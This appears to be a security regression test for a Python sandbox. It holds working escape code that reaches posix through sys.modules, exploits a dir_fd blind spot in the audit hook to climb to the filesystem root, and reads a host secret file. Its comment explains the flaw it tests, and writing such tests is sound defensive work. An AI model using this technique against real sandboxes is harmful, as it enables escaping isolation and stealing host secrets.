# os.open raises its "open" event without the dir_fd, and the hook resolved the name against
# the working directory. From a subdirectory (out/), ".." under the work directory's fd was
# the work directory to the hook and its parent to the kernel; so up to "/", under which any
# name (the host's secret) was, to the hook, a file under the work directory. default blocks
# os, but posix is in sys.modules from the start. Only the hook stands here with the other
# layers off; the row with every layer on shows they hold too.
import sys

posix = sys.modules["posix"]
got = {}
try:
    fd = posix.open(".", posix.O_RDONLY)
    posix.chdir("out")
    while True:
        up = posix.open("..", posix.O_RDONLY, dir_fd=fd)
        same = posix.fstat(up).st_ino == posix.fstat(fd).st_ino
        fd = up
        if same:
            break
    secret = posix.open(inputs["secret"].lstrip("/"), posix.O_RDONLY, dir_fd=fd)
    got["secret"] = posix.read(secret, 100).decode()
except OSError as e:
    got["climb"] = type(e).__name__
result = got
